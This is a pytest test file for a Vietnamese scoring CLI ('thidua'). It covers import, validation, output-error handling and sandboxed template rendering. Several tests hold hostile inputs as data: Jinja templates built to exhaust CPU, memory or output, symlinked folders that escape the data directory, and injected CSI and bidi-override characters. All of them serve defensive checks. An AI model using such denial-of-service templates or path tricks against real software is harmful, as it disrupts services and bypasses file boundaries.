SCRIPT = [sys.executable, "-m", "thidua"]
REPORT = "data/2020/year/tand.yaml"


def exported_sheet(bloc: Path, edit=None) -> Path:
    """tand's sheet for the year, exported as the clerk gets it; `edit(worksheet, bonus_row)` fills it in."""
    from openpyxl import load_workbook

    from thidua.rendering.xlsx import KEY_COLUMN

    assert run("export-sheet", "--unit", "tand", "-o", "phieu.xlsx").exit_code == 0
    if edit is not None:
        wb = load_workbook(bloc / "phieu.xlsx")
        ws = wb.worksheets[0]
        row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=KEY_COLUMN).value == "bonus")
        edit(ws, row)
        wb.save(bloc / "phieu.xlsx")
    return bloc / "phieu.xlsx"


def test_import_scores_force_does_not_replace_a_report_it_cannot_read(bloc):
    exported_sheet(bloc)
    broken = (bloc / REPORT).read_text(encoding="utf-8").replace("achievements:", "achievements: [", 1)
    (bloc / REPORT).write_text(broken, encoding="utf-8")

    result = run("import-scores", "phieu.xlsx", "--unit", "tand", "--force")

    assert refused(result)
    assert ("Lỗi: Báo cáo tự chấm 'data/2020/year/tand.yaml' đã có nhưng không đọc được, nên không giữ lại được ngày "
            "gửi, kết quả nổi bật, tồn tại, hạn chế và thông tin khác trong đó; thidua không thay nó.\n"
            "data/2020/year/tand.yaml:") in result.output
    assert "đổi tên hay xóa tệp đó rồi nhập lại" in result.output
    assert (bloc / REPORT).read_text(encoding="utf-8") == broken
    assert not list((bloc / "data/2020/year").glob("tand.yaml.bak-*"))


def test_import_scores_force_keeps_a_backup_and_what_the_sheet_does_not_hold(bloc):
    exported_sheet(bloc)
    old = (bloc / REPORT).read_bytes()

    result = run("import-scores", "phieu.xlsx", "--unit", "tand", "--force")

    assert result.exit_code == 0, result.output
    backups = list((bloc / "data/2020/year").glob("tand.yaml.bak-*"))
    assert [b.read_bytes() for b in backups] == [old]
    assert f"Đã sao lưu báo cáo cũ thành data/2020/year/{backups[0].name}." in result.output
    new = (bloc / REPORT).read_text(encoding="utf-8")
    for kept in ("submitted: 2020-11-24", "Giải quyết 96,8% số vụ việc", "Cơ sở vật chất, trang thiết bị",
                 "women_share: 47%", "staff: 196", "512/QĐ-TANDTC"):
        assert kept in new
    assert run("validate", "2020").exit_code == 0


def test_import_scores_does_not_write_through_a_period_folder_linked_outside(bloc, tmp_path):
    exported_sheet(bloc)
    outside = tmp_path / "outside"
    shutil.copytree(bloc / "data/2020/year", outside)
    (outside / "tand.yaml").unlink()
    symlink(bloc / "data/2020/year", outside)

    result = run("import-scores", "phieu.xlsx", "--unit", "tand", "--force")

    assert refused(result)
    assert ("Lỗi: Thư mục data/2020/year là liên kết (symlink) trỏ ra ngoài thư mục dữ liệu; thidua không ghi vào "
            "đó.") in result.output
    assert not (outside / "tand.yaml").exists()


def test_rotate_chair_does_not_write_through_a_next_year_folder_linked_to_this_year(bloc):
    this_year = (bloc / "data/2020/bloc.yaml").read_bytes()
    symlink(bloc / "data/2021", bloc / "data/2020")

    result = run("rotate-chair", "2020", "--force")

    assert refused(result)
    assert ("Lỗi: Thư mục data/2021 là liên kết (symlink) tới thư mục năm 2020 (data/2020); ghi vào đó sẽ thay "
            "bloc.yaml của năm 2020.") in result.output
    assert (bloc / "data/2020/bloc.yaml").read_bytes() == this_year
    assert not list((bloc / "data/2020").glob("bloc.yaml.bak-*"))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_output_to_a_fifo_is_written_as_a_stream_and_the_fifo_stays(bloc):
    import stat
    import threading

    fifo = bloc / "ong.csv"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()

    result = run("rank", "--format", "csv", "-o", "ong.csv", "--force")
    reader.join(10)

    assert result.exit_code == 0, result.output
    assert got and got[0].startswith("\ufeffSTT,".encode("utf-8"))
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert [p.name for p in bloc.iterdir() if p.name.startswith(".ong")] == []


def test_output_onto_a_folder_is_refused_even_with_force(bloc):
    (bloc / "ket-qua").mkdir()

    result = run("schema", "-o", "ket-qua", "--force")

    assert refused(result)
    assert "Lỗi: 'ket-qua' là một thư mục, không phải tệp; hãy chọn một tên tệp." in result.output
    assert list((bloc / "ket-qua").iterdir()) == []


@pytest.mark.parametrize("how", ["--data", "THIDUA_DATA"])
def test_an_empty_data_folder_is_a_usage_error(bloc, how):
    if how == "--data":
        result = run_thidua("rotate-chair", "2020", data="")
        message = "Lỗi: Tùy chọn --data để trống; cần tên một thư mục dữ liệu (ví dụ --data data)."
    else:
        result = run_thidua("rotate-chair", "2020", env={"THIDUA_DATA": ""})
        message = "Lỗi: Biến môi trường THIDUA_DATA để trống; đặt nó là tên một thư mục dữ liệu"

    assert refused(result, 2)
    assert message in result.output
    assert not (bloc / "data/2021").exists()


@pytest.mark.parametrize("text,code,message", [
    ("Bằng khen \x9b31mđỏ", "cell-control-char", "Ô chứa ký tự điều khiển U+009B, thường lẫn vào khi dán từ Word"),
    ("Bằng khen\x7f", "cell-control-char", "Ô chứa ký tự điều khiển U+007F"),
    ("x" * 20_000, "cell-too-long", "Ô dài 20.000 ký tự; nội dung, lý do của một khoản điểm ghi tối đa 2.000 ký tự."),
], ids=["CSI", "DEL", "20,000 characters"])
def test_import_scores_refuses_a_reason_that_validate_would_refuse(bloc, text, code, message):
    cells = {}

    def fill(ws, row):
        ws.cell(row=row, column=2).value = text
        ws.cell(row=row, column=4).value = 1
        cells["ref"] = f"{ws.title}!B{row}"

    exported_sheet(bloc, fill)
    old = (bloc / REPORT).read_bytes()

    result = run("import-scores", "phieu.xlsx", "--unit", "tand", "--force")

    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"phieu.xlsx: {cells['ref']}: lỗi: {message}" in result.output and f"[{code}]" in result.output
    assert (bloc / REPORT).read_bytes() == old


@pytest.mark.parametrize("args", [["init", "khoi", "--year", "99999"], ["init", "khoi", "--year", "0"],
                                  ["init", "khoi", "--year", "9" * 5000], ["rank", "9" * 5000],
                                  ["validate", "1900"], ["rotate-chair", "20200"], ["export-sheet", "20x0", "--unit", "a"]],
                         ids=["init 99999", "init 0", "init 5000 digits", "rank 5000 digits", "validate 1900",
                              "rotate-chair 20200", "export-sheet 20x0"])
def test_a_year_outside_the_data_files_range_is_a_usage_error(bloc, args):
    result = run(*args)

    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "không hợp lệ: cần một năm từ 1945 đến 2200, ví dụ 2020." in result.output
    assert len(result.output) < 1000
    assert not (bloc / "khoi").exists()


def test_a_file_name_too_long_is_a_message(bloc):
    result = run("export-sheet", "--unit", "tand", "-o", "a" * 300 + ".xlsx")

    assert refused(result)
    assert "tên tệp quá dài (ENAMETOOLONG)" in result.output


def test_a_long_unit_id_is_refused_before_it_names_a_file(bloc):
    long_id = "d" * 300
    bloc_file = bloc / "data/2020/bloc.yaml"
    bloc_file.write_text(bloc_file.read_text(encoding="utf-8").replace("id: tand", f"id: {long_id}", 1),
                         encoding="utf-8")

    checked = run("validate", "2020")
    exported = run("export-sheet", "--unit", long_id)

    assert checked.exit_code == 1
    assert f"lỗi: Giá trị '{long_id[:37]}…' dài 300 ký tự; tối đa 64 ký tự. [bad-value]" in checked.output
    assert exported.exit_code in (1, 2) and "Traceback" not in exported.output and "Lỗi:" in exported.output


def _script(bloc: Path, *args: str, **kwargs) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("THIDUA_")}
    return subprocess.run([*SCRIPT, "--data", "data", *args], cwd=bloc, env=env, stderr=subprocess.PIPE,
                          timeout=120, **kwargs)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
@pytest.mark.parametrize("args", [["rank"], ["rank", "--format", "csv"], ["report", "--format", "md"], ["validate"]],
                         ids=" ".join)
def test_output_to_a_full_device_says_so(bloc, args):
    with open("/dev/full", "wb") as full:
        done = _script(bloc, *args, stdout=full)

    assert done.returncode == 1
    assert done.stderr.decode("utf-8") == ("Lỗi: Không ghi được kết quả ra màn hình/tệp: ổ đĩa đã hết chỗ trống "
                                           "(ENOSPC).\n")


@pytest.mark.skipif(os.name != "posix", reason="closing a child's stdout needs POSIX")
@pytest.mark.parametrize("args", [["rank"], ["rank", "--format", "csv"], ["report", "--format", "docx"]], ids=" ".join)
def test_output_to_a_closed_stdout_says_so(bloc, args):
    done = _script(bloc, *args, preexec_fn=lambda: os.close(1))

    assert done.returncode == 1
    assert done.stderr.decode("utf-8").endswith("Lỗi: Không ghi được kết quả ra màn hình/tệp: đầu ra đã bị đóng "
                                                "(EBADF).\n")


@pytest.mark.skipif(os.name != "posix", reason="SIGPIPE is POSIX")
@pytest.mark.parametrize("args", [["rank"], ["rank", "--format", "csv"], ["validate"], ["--help"]], ids=" ".join)
def test_a_reader_that_went_away_ends_the_command_quietly(bloc, args):
    read_end, write_end = os.pipe()
    os.close(read_end)  # `| head -1` that has already exited
    try:
        done = _script(bloc, *args, stdout=write_end)
    finally:
        os.close(write_end)

    assert (done.returncode, done.stderr) == (141, b"")


# --- quiet acceptance that loses meaning (issue 17 point 8) ----------------------------------------

def _corpus_year(root: Path, files=None) -> Path:
    """The corpus' minimal clean year 2020 as root/data, with `files` over it; root/data."""
    from conftest import CORPUS_BASE, write_files

    return write_files(copy_data(CORPUS_BASE, root), files or {})


def _report_a(scores: str) -> dict:
    return {"2020/h1/a.yaml": f"unit: a\nyear: 2020\nperiod: h1\nscores:\n{scores}"}


@pytest.mark.parametrize("first, second", [('"1.1"', '"1.1 "'), ('" 1.1"', '"1.1"'), ('"1.1"', '"1.1\\t"'),
                                           ('"1.1"', '"1.1\\u00a0"')])
def test_keys_equal_but_for_the_spaces_around_them_are_a_duplicate(tmp_path, monkeypatch, first, second):
    monkeypatch.chdir(tmp_path)
    _corpus_year(tmp_path, _report_a(f"  {first}: 9\n  {second}: 8\n  \"1.2\": 4\n  \"2.1\": 14\n"))

    result = run("validate", "--strict", "2020")

    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[0].startswith("data/2020/h1/a.yaml:6:3: lỗi: Khóa ")
    assert "ở dòng 5 (chỉ khác dấu cách ở đầu hoặc cuối, nên là cùng một khóa)" in lines[0]
    assert lines[0].endswith("[duplicate-key]") and lines[1:] == ["Có 1 lỗi, 0 cảnh báo."]


def test_keys_equal_after_nfc_and_trimming_are_a_duplicate():
    from thidua.reading.yamlread import parse_yaml_bytes

    root, problems = parse_yaml_bytes('"Hòa": 1\n"Ho\u0300a ": 2\n'.encode(), "f.yaml")

    assert [(p.code, p.src.line, p.src.col) for p in problems] == [("duplicate-key", 2, 1)]
    assert [(k.text, v.text) for k, v in root.items] == [("Hòa", "1")]  # the first is kept, the second reported


@pytest.mark.parametrize("value, col", [("&diem 9", 10), ("&x [9]", 10), ("&y {a: 9}", 10)])
def test_an_anchor_without_an_alias_is_refused_where_it_is_written(tmp_path, monkeypatch, value, col):
    monkeypatch.chdir(tmp_path)
    _corpus_year(tmp_path, _report_a(f'  "1.1": {value}\n  "1.2": 4\n  "2.1": 14\n'))

    result = run("validate", "2020")

    assert result.exit_code == 1
    anchor = value.split()[0]
    assert (f"data/2020/h1/a.yaml:5:{col}: lỗi: Giá trị bắt đầu bằng neo YAML ({anchor}); thidua không hỗ trợ neo "
            "và bí danh (&neo / *bí danh), hãy viết đầy đủ giá trị. Nếu đó là văn bản bắt đầu bằng '&', hãy đặt "
            "cả giá trị trong dấu ngoặc kép. [yaml-alias]") in result.output.splitlines()


def test_text_starting_with_an_ampersand_is_text_when_quoted(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _corpus_year(tmp_path, {"2020/year/summary.yaml": 'year: 2020\nperiod: year\nassessment: "&diem: tốt"\n'})

    assert run("validate", "--strict", "2020").exit_code == 0


def _unlistable(monkeypatch, folder: Path) -> None:
    """`folder` cannot be listed, as after `chmod 000` (which root, running these tests, ignores)."""
    listdir = os.listdir

    def refusing(path):
        if Path(path).resolve() == folder.resolve():
            raise PermissionError(13, "Permission denied", str(path))
        return listdir(path)

    monkeypatch.setattr(os, "listdir", refusing)


def test_an_unreadable_period_folder_is_one_error_not_missing_reports(bloc, monkeypatch):
    _unlistable(monkeypatch, bloc / "data" / "2020" / "h1")

    result = run("validate", "--strict", "2020")

    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "data/2020/h1:1:1: lỗi: Không đọc được thư mục data/2020/h1/ (không có quyền đọc); không tệp nào trong thư "
        "mục này được đọc hay kiểm tra. Hãy cấp quyền đọc thư mục cho người chạy thidua. [folder-unreadable]",
        "Có 1 lỗi, 0 cảnh báo."]


def test_an_unreadable_period_folder_stops_the_commands_that_read_it(bloc, monkeypatch):
    _unlistable(monkeypatch, bloc / "data" / "2020" / "h1")

    result = run("rank", "--half", "1", "2020")

    assert refused(result), result.output
    assert "missing-report" not in result.output


def test_an_unreadable_year_folder_is_one_error_not_missing_files(bloc, monkeypatch):
    _unlistable(monkeypatch, bloc / "data" / "2020")

    result = run("validate", "2020")

    assert result.exit_code == 1
    assert "data/2020:1:1: lỗi: Không đọc được thư mục data/2020/ (không có quyền đọc)" in result.output
    assert "missing-file" not in result.output and "Có 1 lỗi" in result.output


def _units(*units: str) -> dict:
    """bloc.yaml of the corpus year with units a, b, c written as `units` (one YAML flow mapping each)."""
    return {"2020/bloc.yaml": "year: 2020\nname: Khối thử\nplace: Bắc Giang\nlevel: tinh\nchair: a\nvice_chairs: [b]\n"
                              "units:\n" + "".join(f"  - {u}\n" for u in units)
                              + "rotation: {rule: vice-to-chair, order: [a, b, c]}\n"}


@pytest.mark.parametrize("c, col, said", [
    ("{id: c, name: Công an tỉnh}", 19, "có cùng tên 'Công an tỉnh' với đơn vị 'a' (dòng 8)"),
    ("{id: c, name: '  công AN  tỉnh'}", 19, "có cùng tên 'công AN  tỉnh' với đơn vị 'a' (dòng 8)"),
    ("{id: c, name: Công an tỉnh, short_name: CA}", 19,
     "có cùng tên đầy đủ 'Công an tỉnh' (tên ghi trong báo cáo) với đơn vị 'a' (dòng 8)"),
    ("{id: c, name: Sở Tư pháp tỉnh, short_name: Tòa án}", 48,
     "có cùng tên trong bảng 'Tòa án' (tên ngắn, hoặc tên đầy đủ khi không có tên ngắn) với đơn vị 'b' (dòng 9)"),
    ("{id: c, name: Tòa án nhân dân tỉnh, short_name: Tòa án}", 19,
     "có cùng tên 'Tòa án nhân dân tỉnh' và tên ngắn 'Tòa án' với đơn vị 'b' (dòng 9)"),
])
def test_units_named_alike_are_a_warning_at_the_second(tmp_path, monkeypatch, c, col, said):
    monkeypatch.chdir(tmp_path)
    _corpus_year(tmp_path, _units("{id: a, name: Công an tỉnh}",
                                  "{id: b, name: Tòa án nhân dân tỉnh, short_name: Tòa án}", c))

    strict, plain = run("validate", "--strict", "2020"), run("validate", "2020")

    assert (strict.exit_code, plain.exit_code) == (1, 0)
    assert strict.output.splitlines() == [
        f"data/2020/bloc.yaml:10:{col}: cảnh báo: Đơn vị 'c' {said}: trong bảng và báo cáo không phân biệt được "
        "hai đơn vị; hãy đặt tên khác nhau. [duplicate-unit-name]", "Có 0 lỗi, 1 cảnh báo."]


@pytest.mark.parametrize("c", ["{id: c, name: Công an huyện}", "{id: c, name: Tòa án, short_name: TA}",
                               "{id: c, name: Công an tỉnh Bắc Giang, short_name: Công an}"])
def test_units_told_apart_in_tables_and_documents_are_not_warned(tmp_path, monkeypatch, c):
    monkeypatch.chdir(tmp_path)
    _corpus_year(tmp_path, _units("{id: a, name: Công an tỉnh}",
                                  "{id: b, name: Tòa án nhân dân tỉnh, short_name: Tòa án}", c))

    assert run("validate", "--strict", "2020").exit_code == 0


def test_rotate_chair_rotates_the_latest_year_with_a_bloc_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    data = _corpus_year(tmp_path)
    criteria_2021 = (data / "2020" / "criteria.yaml").read_text(encoding="utf-8").replace("2020", "2021")
    (data / "2021").mkdir()
    (data / "2021" / "criteria.yaml").write_text(criteria_2021, encoding="utf-8")

    result = run("rotate-chair")

    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("Luân phiên Trưởng khối năm 2020 sang năm 2021")
    assert "Lưu ý: Năm 2021 chưa có tệp bloc.yaml, nên luân phiên từ năm 2020, năm mới nhất có bloc.yaml." in lines
    assert "Giữ nguyên data/2021/criteria.yaml (đã có, không sao chép lại)" in lines
    assert (data / "2021" / "criteria.yaml").read_text(encoding="utf-8") == criteria_2021
    assert "year: 2021" in (data / "2021" / "bloc.yaml").read_text(encoding="utf-8")
    assert not (data / "2022").exists()


def test_rotate_chair_of_a_named_year_without_a_bloc_file_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    data = _corpus_year(tmp_path)
    (data / "2021").mkdir()

    result = run("rotate-chair", "2021")

    assert result.exit_code == 1
    assert "data/2021/bloc.yaml:1:1: lỗi: Thiếu tệp bloc.yaml của năm 2021. [missing-file]" in result.output
    assert sorted(p.name for p in data.iterdir()) == ["2020", "2021"] and not any((data / "2021").iterdir())


def test_rotate_chair_with_bloc_files_in_every_year_rotates_the_latest(bloc):
    result = run("rotate-chair", "--dry-run")

    assert result.exit_code == 0
    assert "Luân phiên Trưởng khối năm 2020 sang năm 2021" in result.output and "chưa có tệp bloc.yaml" not in result.output


def test_a_tampered_sheet_mark_with_a_huge_year_is_a_message(bloc):
    from thidua.rendering.xlsx import KEY_COLUMN

    def huge_year(ws, _row):
        unit, _year, period = ws.cell(row=1, column=KEY_COLUMN).value.rsplit(":", 3)[1:]
        ws.cell(row=1, column=KEY_COLUMN).value = f"thidua-bang-diem:{unit}:{'9' * 5000}:{period}"

    exported_sheet(bloc, huge_year)

    result = run("import-scores", "phieu.xlsx", "--unit", "tand", "--force")

    assert refused(result), result.output
    assert "Traceback" not in result.output and "ghi năm '999999999999999999999999999…' không hợp lệ" in result.output


# --- names printed in tables (issue 17 point 3) ---------------------------------------------------

def test_a_bidi_override_in_a_unit_name_is_escaped_in_the_rank_and_units_tables(tmp_path):
    data = copy_data(SAMPLE, tmp_path)
    bloc = data / "2020" / "bloc.yaml"
    bloc.write_text(bloc.read_text(encoding="utf-8").replace("short_name: Công an tỉnh",
                                                             "short_name: \"Công an \\u202etỉnh\""), encoding="utf-8")

    tables = [run_thidua(*args, data=data) for args in (("rank", "2020"), ("units", "2020"),
                                                        ("rank", "2020", "--format", "markdown"))]

    assert [t.exit_code for t in tables] == [0, 0, 0], [t.output for t in tables]
    assert all("Công an \\u202etỉnh" in t.output and "\u202e" not in t.output for t in tables)


# --- templates bounded in time, memory and output (issue 17 point 4) ----------------------------------
# A bloc's own templates run in a child process (thidua/rendering/documents/worker.py) with a CPU-time,
# an address-space and an output limit. The tests lower the limits so that each case takes a second.

from thidua.errors import DataError  # noqa: E402 - this section's own imports
from thidua.rendering.documents import render as documents  # noqa: E402
from thidua.rendering.documents import worker  # noqa: E402

LINUX = sys.platform.startswith("linux")  # the address-space limit needs /proc (worker._mapped_bytes)


@pytest.fixture
def small_limits(monkeypatch):
    """1 s of CPU, 256 MB of memory, 1 MB of output: limits a test reaches quickly."""
    monkeypatch.setattr(documents, "TEMPLATE_SECONDS", 1)
    monkeypatch.setattr(documents, "TEMPLATE_MEMORY", 256 * 2**20)
    monkeypatch.setattr(documents, "TEMPLATE_OUTPUT", 2**20)


TOO_LONG = "mẫu chạy quá 1 giây nên bị dừng (có thể do vòng lặp lồng nhau quá lớn)"
TOO_BIG = ("mẫu cần quá 256 MB bộ nhớ nên bị dừng (có thể do một chuỗi bị nối đôi nhiều lần, hoặc một độ rộng "
           "hay số chữ số khổng lồ)")
TOO_MUCH = "văn bản mẫu tạo ra lớn quá 1 MB nên bị dừng"
ENDLESS = "{% set r = range(100000) %}{% for a in r %}{% for b in r %}{% endfor %}{% endfor %}"  # no call inside

UNBOUNDED = {  # the template's line 2, where the message points, what it says
    "nested-loop-without-calls": (ENDLESS, ":2", TOO_LONG),
    "lipsum": ("{{ lipsum(100000000) }}", ":2", TOO_LONG),
    "repeated-squaring": ("{% set n = namespace(x=3) %}{% for i in range(40) %}{% set n.x = n.x * n.x %}"
                          "{% endfor %}{{ n.x }}", ":2", TOO_LONG),
    "doubling": ("{% set s = namespace(v='x') %}{% for i in range(40) %}{% set s.v = s.v ~ s.v %}{% endfor %}"
                 "{{ s.v|length }}", ":2", TOO_BIG),
    "huge-filter-width": ("{{ 'x'|center(1000000000) }}", ":2", TOO_BIG),
    "huge-format-width": ("{{ '%01000000000d' % 1 }}", ":2", TOO_BIG),
    "endless-output": ("{% for a in range(100000) %}{% for b in range(100000) %}xxxxxxxxxx{% endfor %}{% endfor %}",
                       "", TOO_MUCH),
}


def local_template(bloc: Path, source: str, name: str = "bao-cao.md.j2") -> None:
    (bloc / "templates").mkdir(exist_ok=True)
    (bloc / "templates" / name).write_text(f"Dòng 1\n{source}\n", encoding="utf-8")


@pytest.mark.parametrize("case", sorted(UNBOUNDED))
def test_a_template_is_stopped_at_its_limit_with_one_message(bloc, small_limits, case):
    source, where, words = UNBOUNDED[case]
    if words == TOO_BIG and not LINUX:
        pytest.skip("the memory limit needs Linux")
    local_template(bloc, source)
    started = time.monotonic()

    result = run("report", "-o", "bao-cao.md")

    assert time.monotonic() - started < 15
    assert (result.exit_code, result.output) == (1, f"Lỗi: Lỗi trong mẫu templates/bao-cao.md.j2{where}: {words}.\n")
    assert not (bloc / "bao-cao.md").exists()


@pytest.mark.skipif(not LINUX, reason="the memory limit needs Linux")
def test_a_word_template_is_stopped_at_its_memory_limit(bloc, small_limits):
    from docx import Document

    (bloc / "templates").mkdir()
    doc = Document()
    doc.add_paragraph("{{ 'x'|center(1000000000) }}")
    doc.save(str(bloc / "templates" / "bao-cao.docx"))

    result = run("report", "-o", "bao-cao.docx")

    assert (result.exit_code, result.output) == (
        1, f"Lỗi: Lỗi trong mẫu templates/bao-cao.docx, đoạn văn thứ 1 («{{{{ 'x'|center(1000000000) }}}}»): "
           f"{TOO_BIG}.\n")
    assert not (bloc / "bao-cao.docx").exists()


def test_a_bloc_copy_of_the_shipped_templates_makes_the_same_documents(bloc):
    shipped = {fmt: run("report", "--format", fmt).stdout for fmt in ("md", "html")}
    shutil.copytree(documents.bundled_root() / "templates", bloc / "templates")

    assert {fmt: run("report", "--format", fmt).stdout for fmt in ("md", "html")} == shipped
    assert run("report", "-o", "bao-cao.docx").exit_code == 0


def test_spawn_as_on_windows_and_macos_makes_the_same_document_and_the_same_errors(bloc, small_limits, monkeypatch):
    monkeypatch.setattr(worker, "START_METHOD", "spawn")
    shipped = run("report", "--format", "md").stdout
    shutil.copytree(documents.bundled_root() / "templates", bloc / "templates")

    same = run("report", "--format", "md")
    local_template(bloc, "{{ titel }}")
    typo = run("report", "--format", "md")

    assert (same.exit_code, same.stdout) == (0, shipped)
    assert (typo.exit_code, typo.output) == (
        1, "Lỗi: Lỗi trong mẫu templates/bao-cao.md.j2:2: không có biến 'titel' trong dữ liệu của văn bản "
           "(gõ nhầm tên?).\n")


@pytest.fixture
def no_cpu_limit(monkeypatch):
    """As on Windows: no `resource`, so only the environment's deadline and the parent's clock."""
    monkeypatch.setattr(worker, "cpu_limited", lambda: False)
    monkeypatch.setattr(worker, "_limit_self", lambda limits: None)
    monkeypatch.setattr(worker, "KILL_GRACE", 0)


@pytest.mark.parametrize("source,where", [
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% set c = a * b %}{% endfor %}{% endfor %}", ":2"),
    (ENDLESS, ""),  # no call to check the clock at: the parent kills the child after 2 s
])
def test_without_a_cpu_limit_the_clock_stops_the_template(bloc, small_limits, no_cpu_limit, source, where):
    local_template(bloc, source)
    started = time.monotonic()

    result = run("report", "-o", "bao-cao.md")

    assert time.monotonic() - started < 15
    assert (result.exit_code, result.output) == (1, f"Lỗi: Lỗi trong mẫu templates/bao-cao.md.j2{where}: {TOO_LONG}.\n")


def _refuse(message: str) -> bytes:
    raise DataError(message)


def _fail() -> bytes:
    return {}["x"]


def test_the_worker_gives_back_the_jobs_bytes_and_its_errors():
    limits = worker.Limits(5, 2**30, 1000)

    assert worker.run(bytes, (1000,), limits) == bytes(1000)
    with pytest.raises(worker.LimitExceeded) as too_much:
        worker.run(bytes, (1001,), limits)
    with pytest.raises(DataError) as refused_there:
        worker.run(_refuse, ("Năm 2020 thiếu bloc.yaml.",), limits)
    with pytest.raises(KeyError) as bug:
        worker.run(_fail, (), limits)
    with pytest.raises(worker.LimitExceeded) as died:
        worker.run(os._exit, (3,), limits)

    assert too_much.value.what == "output"
    assert (refused_there.value.message, refused_there.value.exit_code) == ("Năm 2020 thiếu bloc.yaml.", 1)
    assert "in _fail" in bug.value.__notes__[-1]  # the child's trace, for THIDUA_DEBUG=1
    assert (died.value.what, died.value.detail) == ("crash", "mã thoát 3")


def test_the_worker_kills_a_child_that_does_not_answer(monkeypatch):
    monkeypatch.setattr(worker, "KILL_GRACE", 0)
    started = time.monotonic()

    with pytest.raises(worker.LimitExceeded) as late:
        worker.run(time.sleep, (60,), worker.Limits(1, 2**30, 1000))

    assert late.value.what == "time"
    assert time.monotonic() - started < 10
